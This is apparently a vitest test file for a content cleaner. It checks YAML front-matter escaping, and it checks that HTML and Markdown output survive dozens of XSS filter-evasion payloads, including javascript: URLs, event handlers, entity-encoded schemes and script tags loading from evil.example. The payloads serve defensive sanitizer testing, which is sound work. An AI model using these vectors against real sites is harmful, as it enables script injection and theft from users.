/** Front matter that any reader takes back, and HTML that nothing dangerous can stand in. */
import {parse as parseHtml, defaultTreeAdapter as tree, type DefaultTreeAdapterTypes as Types} from 'parse5'
import {parse as parseYaml} from 'yaml'
import {describe, expect, it} from 'vitest'
import {clean} from '../src/index.ts'
import {loadFrontMatter} from '../src/output/frontMatter.ts'
import {loadHtml} from '../src/output/html.ts'
import type {Metadata} from '../src/result.ts'

const nothing: Metadata = {title: null, author: null, authors: [], date: null, modified: null, language: null, url: null, urlSource: null}

describe('front matter', async () => {
  const write = await loadFrontMatter()
  const titles = [
    'Plain', 'Colon: in the middle', '"Quoted" and \'quoted\'', '- a dash first', '# hash', '{{ braces }}', '[list]', 'yes', 'No', 'null', '~', '2024-05-01', '1:20', '0x1F', '1e3', '.inf', '!!binary x', '&anchor', '*alias', '| pipe', '> fold',
    '@at', '`tick`', '%percent', '---', '...', 'trailing:', ' spaces ', 'a #comment', 'tab\there', 'Ünïcödé 日本語 🎉', '\\backslash', `${'long '.repeat(100)}end`, '=', '<<', '? key', ': value', "it's", 'line\u2028separator',
  ]
  it.each(titles)('gives back the title %j', title => {
    const text = write({...nothing, title, authors: [title]})
    expect(text.startsWith('---\n') && text.endsWith('\n---\n')).toBe(true)
    const back = title.replace(/[\t\u2028]/gu, ' ').trim()
    for (const version of ['1.1', '1.2'] as const) expect(parseYaml(text.slice(4, -4), {version})).toEqual({title: back, authors: [back]})
  })
  it('keeps a line a line: no value can end the block or add a field', () => {
    const text = write({...nothing, title: 'a\n---\nevil: yes', description: 'x\r\ny'})
    expect(parseYaml(text.slice(4, -4))).toEqual({title: 'a --- evil: yes', description: 'x y'})
    expect(text.match(/^---$/gmu)).toHaveLength(2)
  })
  it('is nothing where nothing is known', () => expect(write(nothing)).toBe(''))
  it('leaves out what is not known, in a fixed order', () => {
    const text = write({...nothing, language: 'de', title: 'T', date: '2024-05-01', tags: [], siteName: 'S'})
    expect(text).toBe('---\ntitle: T\ndate: "2024-05-01"\nsite: S\nlanguage: de\n---\n')
  })
})

const elements = new Set('html head meta title body p h1 h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong del br hr a img table thead tbody tr th td sup sub kbd mark ins u q small abbr caption details summary div'.split(' '))
const attributes: Readonly<Record<string, RegExp>> = {
  href: /^(?:https?:|mailto:|tel:|[^:]*$|[/#?.])/iu, src: /^(?:https?:|[^:]*$|[/#?.])/iu, alt: /(?:)/u, rel: /^nofollownoopener$/u, start: /^\d+$/u, align: /^(?:left|right|center)$/u, class: /^language-[\w+.-]+$/u, lang: /^[\w-]+$/u, charset: /^utf-8$/u,
}

/** Elements and attributes that must not be there. */
function forbidden(html: string): string[] {
  const wrong: string[] = []
  const rest: Types.Node[] = [parseHtml(html)]
  for (let node = rest.pop(); node !== undefined; node = rest.pop()) {
    if (tree.isCommentNode(node)) wrong.push(`comment ${node.data}`)
    if (tree.isElementNode(node)) {
      if (!elements.has(node.tagName)) wrong.push(`<${node.tagName}>`)
      for (const {name, value} of node.attrs) if (attributes[name]?.test(value.replace(/[\u0000-\u0020]/gu, '')) !== true) wrong.push(`${node.tagName} ${name}=${value}`)
    }
    if ('childNodes' in node) rest.push(...node.childNodes)
  }
  return wrong
}

/** Known ways around filters, as HTML. @see https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html */
const evasions = [
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<img src="javascript:alert(1)">', '<IMG SRC=JaVaScRiPt:alert(1)>', '<IMG SRC=`javascript:alert("x")`>', '<a onmouseover="alert(1)">xxs link</a>', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=x onerror=alert(1)>', '<IMG SRC=# onmouseover="alert(1)">', '<IMG onmouseover="alert(1)">', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;(1)>', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="jav&#x0A;ascript:alert(1)">x</a>', '<a href="java\0script:alert(1)">x</a>', '<a href=" &#14;  javascript:alert(1)">x</a>', '<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("x")>',
  '<<SCRIPT>alert("x");//\\<</SCRIPT>', '<IMG SRC="`<javascript:alert>`(1)"', '</TITLE><SCRIPT>alert(1);</SCRIPT>', '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">', '<BODY BACKGROUND="javascript:alert(1)">', '<IMG DYNSRC="javascript:alert(1)">', '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<math><a xlink:href="javascript:alert(1)">x</a></math>', '<BGSOUND SRC="javascript:alert(1);">', '<LINK REL="stylesheet" HREF="javascript:alert(1);">', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>',
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>', '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">x', '<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>', '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example"></OBJECT>', '<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+">', '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/%22onclick=%22alert(1)">x</a>', '<a href=\'x" onclick="alert(1)\'>x</a>', '<img alt=\'"><script>alert(1)</script>\' src=x.png>', '<pre><code class=\'language-js" onclick="alert(1)\'>x</code></pre>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>', '<a href="https://a.example/`onclick=alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '<p>&lt;img src=x onerror=alert(1)&gt;</p>', '<details open ontoggle=alert(1)><summary>x</summary>y</details>', '<form action="javascript:alert(1)"><button>x</button></form>', '<marquee onstart=alert(1)>x</marquee>', '<video><source onerror="alert(1)"></video>', '<a href="JAVASCRIPT&colon;alert(1)">x</a>', '<p>]]><script>alert(1)</script>',
]
/** The same aims, as Markdown. */
const markdown = [
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](<java\tscript:alert(1)>)', '[x](javascript&colon;alert(1))', '[x](&#106;avascript:alert(1))', '![x](data:text/html,<script>alert(1)</script>)', '[x]: javascript:alert(1)\n\n[x]', '![y][z]\n\n[z]: vbscript:x', '<script>alert(1)</script>', 'a <img src=x onerror=alert(1)> b',
  '<details open ontoggle=alert(1)>\n\nx\n\n</details>', '<!-- --><script>alert(1)</script>', '```js" onclick="alert(1)\nx\n```', '<javascript:alert(1)>', '[x](https://a.example "t\\" onclick=\\"alert(1)")', '![a"onerror="alert(1)](x.png)', '</p><script>alert(1)</script>', '<sub onclick=alert(1)>x</sub>', '<sub>x', '</body></html><script>alert(1)</script>',
  '| <script>x</script> | [a](javascript:x) |\n| --- | --- |\n| <td onclick=x> | <b>x</b> |', '[^1]\n\n[^1]: <script>alert(1)</script>', '<svg><script>alert(1)</script></svg>', '[x](data:text/html;base64,PHNjcmlwdD4=)', '<https://a.example/"onclick="x>',
]

describe('clean HTML', async () => {
  const write = await loadHtml()
  it.each(evasions)('lets nothing through of %j', async html => {
    const result = await clean(`<html><body><p>Some text before it stands here.</p>${html}<p>Some text after it stands here.</p></body></html>`, {fragment: true, from: 'html', url: 'https://a.example/'})
    expect(forbidden(write(result.markdown, {document: true, title: html}))).toEqual([])
  })
  it.each(markdown)('lets nothing through of the Markdown %j', text => {
    expect(forbidden(write(text, {document: true, title: text, language: text}))).toEqual([])
  })
  it('sees what is forbidden', () => {
    expect(forbidden('<p onclick="x"><script>y</script><a href="javascript:z">a</a></p><!-- c -->')).toHaveLength(4)
  })
  it('writes what Markdown says', () => {
    expect(write('# A & B\n\n- one\n- **two** `x<y`\n\n3. three\n\n> q\n\n[l](/p?a=1&b=2) ![i](i.png) H<sub>2</sub>O\n\n| a | b |\n| --: | --- |\n| 1 | 2 |\n\n```js\nlet a = "<"\n```\n')).toMatchInlineSnapshot(`
      "<h1>A &#38; B</h1>
      <ul>
      <li>one</li>
      <li><strong>two</strong> <code>x&#60;y</code></li>
      </ul>
      <ol start="3">
      <li>three</li>
      </ol>
      <blockquote>
      <p>q</p>
      </blockquote>
      <p><a href="/p?a=1&#38;b=2" rel="nofollow noopener">l</a> <img src="i.png" alt="i"> H<sub>2</sub>O</p>
      <table>
      <thead>
      <tr><th align="right">a</th><th>b</th></tr>
      </thead>
      <tbody>
      <tr><td align="right">1</td><td>2</td></tr>
      </tbody>
      </table>
      <pre><code class="language-js">let a = &#34;&#60;&#34;
      </code></pre>
      "
    `)
  })
  it('answers nesting as deep as it comes', () => {
    expect(write(`${'> '.repeat(1000)}deep`)).toContain('deep')
  })
})
